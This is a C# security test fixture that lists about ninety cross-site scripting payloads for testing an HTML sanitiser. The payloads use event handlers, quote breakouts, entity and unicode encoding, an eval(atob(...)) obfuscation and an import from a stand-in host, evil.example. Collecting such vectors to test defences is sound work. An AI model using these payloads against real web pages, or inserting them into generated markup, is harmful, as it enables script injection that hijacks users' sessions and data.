namespace Mosaic.Tests.Security;

/// <summary>Event handlers, and the ways to smuggle one into a tag.</summary>
internal static class HandlerVectors
{
    /// <summary>One a line; see <see cref="VectorText"/> for the signs that stand for others.</summary>
    public static IReadOnlyList<string> All { get; } = VectorText.Lines(""""""
        <img src=x onerror=harm()>
        <img src=x onerror="harm()">
        <img src=x onerror='harm()'>
        <img src=x onerror=`harm()`>
        <img/src=x/onerror=harm()>
        <img src=x onerror⏎=⏎harm()>
        <img src=x␉onerror=harm()>
        <img src=x ONERROR=harm()>
        <img src=x oNeRrOr=harm()>
        <img src onerror=harm()//
        <img src=x onerror=harm()
        <img """><script>harm()</script>">
        <img src=x:x onerror=&#104;arm()>
        <img src=x onerror="&#x68;arm()">
        <img src=x onerror="\u0068arm()">
        <img src=x onerror="window['ha'+'rm']()">
        <img src=x onerror="eval(atob('aGFybSgp'))">
        <img src=x onerror=import('//evil.example/x.js')>
        <img src=x onerror=location='javascript:harm()'>
        <img src=x onload=harm() onerror=harm()>
        <img src="x` `<script>harm()</script>"` `>
        <img src='x' alt=''' onerror='harm()'>
        <img src=1 href=1 onerror="harm()">
        <a onclick=harm()>x</a>
        <a onmouseover="harm()">x</a>
        <a href=# onclick="harm()">x</a>
        <a onpointerrawupdate=harm()>x</a>
        <b onmouseenter=harm()>x</b>
        <b onwheel=harm()>x</b>
        <b oncopy=harm()>x</b>
        <b oncut=harm() contenteditable>x</b>
        <b onpaste=harm() contenteditable>x</b>
        <b ondrag=harm() draggable=true>x</b>
        <b oncontextmenu=harm()>x</b>
        <p onanimationstart=harm() style="animation:x">x</p>
        <p ontransitionend=harm() style="transition:all 1s">x</p>
        <p onbeforecopy=harm()>x</p>
        <p onscroll=harm()>x</p>
        <p onscrollend=harm()>x</p>
        <p onbeforematch=harm() hidden=until-found>x</p>
        <p oncontentvisibilityautostatechange=harm() style="content-visibility:auto">x</p>
        <p tabindex=1 onfocusin=harm() autofocus>x</p>
        <input autofocus onfocus=harm()>
        <input onblur=harm() autofocus><input autofocus>
        <input oninput=harm()>
        <input onchange=harm()>
        <input oninvalid=harm() required>
        <input onselect=harm() value=x>
        <input onsearch=harm() type=search>
        <input type=checkbox data-task=0 onclick=harm()>
        <select autofocus onfocus=harm()><option>x</select>
        <textarea autofocus onfocus=harm()></textarea>
        <button autofocus onfocus=harm()>x</button>
        <button popovertarget=x onclick=harm()>x</button><p popover id=x onbeforetoggle=harm()>x</p>
        <details open ontoggle=harm()>x</details>
        <body onload=harm()>
        <body onpageshow=harm()>
        <body onhashchange=harm()><a href=#x>x</a>
        <body onresize=harm()>
        <body onmessage=harm()>
        <body onbeforeunload=harm()>
        <body onpopstate=harm()>
        <audio controls onplay=harm() src=x></audio>
        <audio oncanplay=harm() src="data:audio/wav;base64,UklGRg=="></audio>
        <video onloadstart=harm()><source></video>
        <video ontimeupdate=harm() controls src=x></video>
        <video autoplay onloadeddata=harm() src=x></video>
        <marquee loop=1 onfinish=harm()>x</marquee>
        <marquee behavior=alternate onbounce=harm()>x</marquee>
        <form onsubmit=harm()><button>x</button></form>
        <form onreset=harm()><button type=reset>x</button></form>
        <form onformdata=harm()><button>x</button></form>
        <object onerror=harm() data=x></object>
        <script onerror=harm() src=//localhost:1/></script>
        <link onerror=harm() rel=stylesheet href=//localhost:1/>
        <style onload=harm()></style>
        <iframe onload=harm() src=about:blank></iframe>
        <dialog oncancel=harm() open>x</dialog>
        <div onclick=harm() style="position:fixed;inset:0">x</div>
        <x onclick=harm()>x</x>
        <x-y onpointerdown=harm()>x</x-y>
        <mosaic-markdown tasks onclick=harm()><div class=markdown-text><input data-task=0></div></mosaic-markdown>
        " onmouseover=harm() x="
        ' onmouseover=harm() x='
        " autofocus onfocus="harm()
        x" onerror="harm()" y="
        x' onerror='harm()' y='
        ` onerror=`harm()
        &quot; onmouseover=&quot;harm()
        &#34; onclick=&#34;harm()
        &#x22;&#x3e;&#x3c;img src=x onerror=harm()&#x3e;
        """""");
}
